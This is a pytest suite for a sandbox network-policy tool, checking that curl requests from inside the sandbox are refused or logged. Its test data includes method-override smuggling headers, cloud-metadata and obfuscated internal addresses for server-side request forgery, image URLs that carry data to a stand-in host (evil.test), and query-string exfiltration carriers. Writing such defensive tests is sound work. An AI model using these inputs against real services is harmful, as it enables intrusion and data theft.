"""Wall 3, what a request asks for: requests that hide in others, GraphQL by operation, URLs that the server would fetch, and
what leaves in numbers. curl from inside, against the miniature internet."""
import json

import pytest

from person import SERVERS

NAMES = {name: SERVERS for name in ("api.test", "limited.test", "graph.test", "files.test")}

POLICY = """
run: {{ workdir: /tmp }}
network:
  resolver: 20.0.0.1:53
  trust: [{ca}]
  inspect: {{ {inspect} }}
  allow:
    - {{ host: api.test, tls: inspect }}
    - {{ host: files.test, tls: inspect }}
    - {{ host: limited.test, tls: inspect, methods: [GET, POST], paths: [/echo] }}
    - {{ host: graph.test, tls: inspect, paths: [/echo], graphql: {{ operations: [query], fields: [viewer, repository] }} }}
"""
JSON = ["-H", "content-type: application/json"]


@pytest.fixture
def send(online):
    """curl with these words, from inside; what the servers saw meanwhile is `send.seen`."""
    words_file = online.work / "words.json"

    def run(words, host="api.test", path="/echo", body=None, inspect="", times=1):
        given = [*words, *(["--data-binary", "@-"] if body is not None else [])]
        online.write(words_file, json.dumps([given, body or ""]))
        before = len(online.internet.seen())
        done = online.python(f"""
            import json, subprocess, sys
            given, body = json.load(open('/words.json'))
            for turn in range({times}):
                url = {f"https://{host}{path}"!r}.replace('TURN', str(turn))
                status = subprocess.run(['curl', '-sS', *given, url], input=body, text=True).returncode
            sys.exit(status)
            """, policy=POLICY.format(ca=online.internet.ca, inspect=inspect) +
            f"files: [{{ host: {words_file}, at: /words.json, access: read }}]\n")
        run.seen = json.dumps(online.internet.seen()[before:])
        return done
    return run


def refused(online, send, done, reason):
    assert "stockade_blocked" in done.stdout and '"http"' not in send.seen, (done, send.seen)
    event = online.events(kind="request", decision="deny")[-1]
    assert reason in event["reason"], event


def passed(done, body):
    assert json.loads(done.stdout)["body"] == body, done


HIDDEN = {
    "a header": (["-H", "X-HTTP-Method-Override: DELETE"], "/echo", None, "X-HTTP-Method-Override"),
    "a path in a header": (["-H", "X-Original-URL: /admin"], "/echo", None, "X-Original-URL"),
    "a query parameter": ([], "/echo?_method=DELETE", None, "_method"),
    "a form field": ([], "/echo", "a=1&_method=DELETE", "_method"),
    "a batch": (JSON, "/echo", json.dumps({"requests": [{"id": "1", "method": "DELETE", "url": "/me"}]}), "batch of 1"),
    "what can't be read": (JSON, "/echo", '{"a": 1, "a": 2}', "can't be read"),
}


@pytest.mark.parametrize("way", HIDDEN)
def test_no_other_request_hides_where_methods_are_limited(online, send, way):
    words, path, body, reason = HIDDEN[way]
    refused(online, send, send(words, host="limited.test", path=path, body=body), reason)


def test_a_plain_request_passes_where_methods_are_limited(send):
    passed(send(JSON, host="limited.test", body='{"a": [1, 2]}'), '{"a": [1, 2]}')
    passed(send([], host="limited.test", body="a=1&b=2"), "a=1&b=2")


def test_an_override_passes_where_nothing_is_limited(send):
    passed(send(["-H", "X-HTTP-Method-Override: PUT"], body="a=1&_method=PUT"), "a=1&_method=PUT")


def test_graphql_passes_by_operation_and_field(online, send):
    query = json.dumps({"query": "query Me { viewer { login } repository(name: \"x\") { id } }"})
    passed(send(JSON, host="graph.test", body=query), query)
    done = send([], host="graph.test", path="/echo?query=%7Bviewer%7Blogin%7D%7D")
    assert "stockade_blocked" not in done.stdout and json.loads(done.stdout), done


@pytest.mark.parametrize("body, reason", [
    ('{"query": "mutation { deleteRepository(id: 1) { id } }"}', "mutation { deleteRepository }"),
    ('{"query": "{ viewer: users { id } }"}', "users"),
    ('[{"query": "{ viewer { id } }"}, {"query": "{ users { id } }"}]', "users"),
    ('{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "abcd"}}}', "persisted"),
    ('{"not": "graphql"}', "GraphQL only"),
    ('{"query": "{ viewer { id } }", "x": "' + "x" * 1_100_000 + '"}', "longer than 1 MiB"),
], ids=["mutation", "another field behind an alias", "a batch", "persisted", "no graphql", "too long"])
def test_other_graphql_is_refused(online, send, body, reason):
    refused(online, send, send(JSON, host="graph.test", body=body), reason)


def test_graphql_in_a_query_string_is_judged(online, send):
    refused(online, send, send([], host="graph.test", path="/echo?query=mutation%7Bx%7D"), "mutation { x }")


def chat(url):
    return json.dumps({"model": "m", "messages": [{"role": "user", "content": [
        {"type": "text", "text": "see http://10.0.0.1/"}, {"type": "image_url", "image_url": {"url": url}}]}]})


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://0x7f.1/", "http://[::ffff:192.168.0.1]/",
                                 "http://files.test@10.0.0.1/", "http://metadata.google.internal/"])
def test_a_server_is_not_sent_to_a_forbidden_address(online, send, url):
    refused(online, send, send(JSON, body=json.dumps({"webhook": url})), "would fetch")
    refused(online, send, send(["-G", "--data-urlencode", f"url={url}"]), "would fetch")
    refused(online, send, send(["-F", f"callback_url={url}"]), "would fetch")


def test_a_model_fetches_from_allowed_hosts_only(online, send):
    refused(online, send, send(JSON, body=chat("https://evil.test/x.png?d=data")), "evil.test:443")
    passed(send(JSON, body=chat("https://files.test/x.png")), chat("https://files.test/x.png"))


def test_a_long_body_is_judged_to_its_end(online, send):
    long = json.dumps({"image": "A" * 5_000_000})[:-1] + ", "
    done = send(JSON, body=long + '"x": {"image_url": "https://evil.test/"}}')
    assert "stockade_blocked" in done.stdout or done.status != 0, done
    assert '"http"' not in send.seen, send.seen[:300]  # not a whole request
    assert "evil.test" in online.events(kind="request", decision="deny")[-1]["reason"]
    done = send(JSON, body=long + '"x": {"image_url": "https://files.test/"}}')
    assert "files.test" in done.stdout[-500:], done.stdout[-500:]


def test_a_compressed_body_is_judged(online, send):
    words = online.work / "words.json"
    online.write(words, "")
    body = chat("https://evil.test/x.png")
    done = online.python(f"""
        import gzip, subprocess, sys
        body = gzip.compress({body.encode()!r})
        sys.exit(subprocess.run(['curl', '-sS', '-H', 'content-type: application/json', '-H', 'content-encoding: gzip',
                                 '--data-binary', '@-', 'https://api.test/echo'], input=body).returncode)
        """, policy=POLICY.format(ca=online.internet.ca, inspect=""))
    assert "stockade_blocked" in done.stdout and "evil.test" in done.stdout, done


def test_other_urls_are_logged_and_pass(online, send):
    body = json.dumps({"homepage": "https://other.test/"})
    passed(send(JSON, body=body), body)
    event, = [event for event in online.events(kind="request", decision="log") if "no rule allows" in event["reason"]]
    assert "other.test:443" in event["reason"], event


def test_fetched_urls_are_logged_where_the_policy_says_so(online, send):
    body = json.dumps({"webhook": "http://169.254.169.254/"})
    passed(send(JSON, body=body, inspect="fetched_urls: log"), body)
    assert [event for event in online.events(kind="request", decision="log") if "169.254.169.254" in event["reason"]]
    passed(send(JSON, body=body, inspect="fetched_urls: off"), body)


CARRIER = "/echo?d=" + "".join(f"{number * 7919 % 65521:04x}" for number in range(40)) + "TURN"


def test_data_that_leaves_in_queries_is_told(online, send):
    send(["-o", "/dev/null"], path="/echo?d=" + "x" * 5000, times=1)
    send(["-o", "/dev/null"], path=CARRIER, times=150)
    told = [event for event in online.events(kind="request", decision="log") if "exfiltration" in event["reason"]]
    assert told and "api.test:443" in told[0]["reason"] and float(told[0]["evidence"]["score"]) >= 0.7, told


def test_data_that_leaves_in_queries_is_refused_where_the_policy_says_so(online, send):
    done = send([], path=CARRIER, times=150, inspect="exfiltration: deny")
    assert "stockade_blocked" in done.stdout and "exfiltration" in done.stdout, done.stdout[-500:]
    assert online.events(kind="request", decision="deny")


def test_check_warns_of_services_by_which_data_leaves(stockade):
    policy = stockade.policy("network: { allow: [{ host: webhook.site, tls: passthrough }, { host: a.example, tls: inspect }] }\n")
    done = stockade.stockade("policy", "check", policy)
    assert done.status == 0 and "webhook catcher" in done.stdout + done.stderr, done
    assert "webhook catcher" in stockade.stockade("policy", "explain", policy).stdout
